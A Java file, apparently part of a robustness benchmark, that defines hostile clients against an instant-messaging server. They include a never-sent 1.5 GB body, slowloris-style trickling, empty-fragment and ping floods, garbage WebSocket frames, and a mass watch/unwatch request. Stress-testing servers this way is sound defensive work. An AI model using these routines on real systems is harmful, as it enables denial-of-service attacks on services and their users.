package im.milena.bench.hostile;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.io.UncheckedIOException;
import java.net.Socket;
import java.net.URI;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.Arrays;
import java.util.Base64;
import java.util.SplittableRandom;
import java.util.concurrent.locks.LockSupport;
import java.util.zip.GZIPOutputStream;

/** What a client can do that means harm, over one connection. */
interface Hostility {
  /**
   * Goes on until the server ends the connection.
   *
   * @throws IOException also if the server has ended it
   */
  void on(Socket socket, URI address) throws IOException;

  int FRAGMENT_BYTES = 51_000;
  int IDS = 100_000;
  Duration TRICKLE = Duration.ofMillis(500);
  int PIECE_BYTES = 64 * 1024;
  int MASKED = 0x80;
  int BINARY = 2;
  int PING = 9;
  int FINAL = 0x80;

  /** A body of 1.5 GB is declared and never sent. */
  static Hostility declaring() {
    return (socket, address) -> {
      socket.getOutputStream().write(post(address, 1_500_000_000L));
      readToEnd(socket);
    };
  }

  static Hostility trickling() {
    return (socket, address) -> {
      OutputStream out = socket.getOutputStream();
      out.write(post(address, 100_000));
      while (true) {
        out.write('{');
        out.flush();
        LockSupport.parkNanos(TRICKLE.toNanos());
      }
    };
  }

  static Hostility silent() {
    return (socket, address) -> readToEnd(socket);
  }

  static Hostility knocking() {
    return (socket, address) -> {
      UpgradeRequest.send(socket, address);
      readToEnd(socket);
    };
  }

  /** A message just below the limit, then fragments of no bytes for ever. */
  static Hostility emptyFragments() {
    return (socket, address) -> {
      UpgradeRequest.send(socket, address);
      OutputStream out = socket.getOutputStream();
      out.write(frame(BINARY, new byte[FRAGMENT_BYTES]));
      byte[] many = repeated(frame(0, new byte[0]));
      while (true) {
        out.write(many);
      }
    };
  }

  static Hostility pings() {
    return (socket, address) -> {
      UpgradeRequest.send(socket, address);
      byte[] many = repeated(frame(FINAL | PING, new byte[125]));
      while (true) {
        socket.getOutputStream().write(many);
      }
    };
  }

  static Hostility garbage() {
    return (socket, address) -> {
      UpgradeRequest.send(socket, address);
      byte[] bytes = new byte[1_000];
      new SplittableRandom(socket.getLocalPort()).nextBytes(bytes);
      socket.getOutputStream().write(frame(FINAL | BINARY, bytes));
      socket.getOutputStream().write(bytes);
      readToEnd(socket);
    };
  }

  /** Asks for the same users to be watched and not to be watched (2005). */
  static Hostility watching(String user) {
    byte[] ids = new byte[IDS * 8];
    ByteBuffer fields = ByteBuffer.wrap(ids);
    for (int field = 1; field <= 2; field++) {
      for (int i = 0; i < IDS; i++) {
        fields.put((byte) (field << 3 | 2)).put((byte) 2);
        fields.put((byte) ('a' + i % 26)).put((byte) ('a' + i / 26 % 26));
      }
    }
    String request =
        "{\"reqIdentifier\":2005,\"sendID\":\""
            + user
            + "\",\"operationID\":\"hostile\",\"msgIncr\":\"1\",\"data\":\""
            + Base64.getEncoder().encodeToString(ids)
            + "\"}";
    byte[] frame = frame(FINAL | BINARY, gzip(request.getBytes(StandardCharsets.UTF_8)));
    return (socket, address) -> {
      UpgradeRequest.send(socket, URI.create(address + "&compression=gzip"));
      socket.getOutputStream().write(frame);
      readToEnd(socket);
    };
  }

  private static byte[] post(URI address, long length) {
    return String.join(
            "\r\n",
            "POST /auth/get_admin_token HTTP/1.1",
            "Host: " + address.getHost() + ":" + address.getPort(),
            "Content-Type: application/json",
            "operationID: hostile",
            "Content-Length: " + length,
            "",
            "")
        .getBytes(StandardCharsets.US_ASCII);
  }

  /** A masked frame, with a mask that changes nothing. */
  private static byte[] frame(int start, byte[] payload) {
    int length = payload.length;
    ByteBuffer frame = ByteBuffer.allocate(length + 14);
    frame.put((byte) start);
    if (length < 126) {
      frame.put((byte) (MASKED | length));
    } else {
      frame.put((byte) (MASKED | 127)).putLong(length);
    }
    frame.putInt(0).put(payload).flip();
    return Arrays.copyOf(frame.array(), frame.limit());
  }

  private static byte[] repeated(byte[] frame) {
    ByteArrayOutputStream many = new ByteArrayOutputStream();
    while (many.size() < PIECE_BYTES) {
      many.writeBytes(frame);
    }
    return many.toByteArray();
  }

  private static byte[] gzip(byte[] plain) {
    ByteArrayOutputStream bytes = new ByteArrayOutputStream();
    try (OutputStream out = new GZIPOutputStream(bytes)) {
      out.write(plain);
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
    return bytes.toByteArray();
  }

  private static void readToEnd(Socket socket) throws IOException {
    socket.getInputStream().transferTo(OutputStream.nullOutputStream());
  }
}
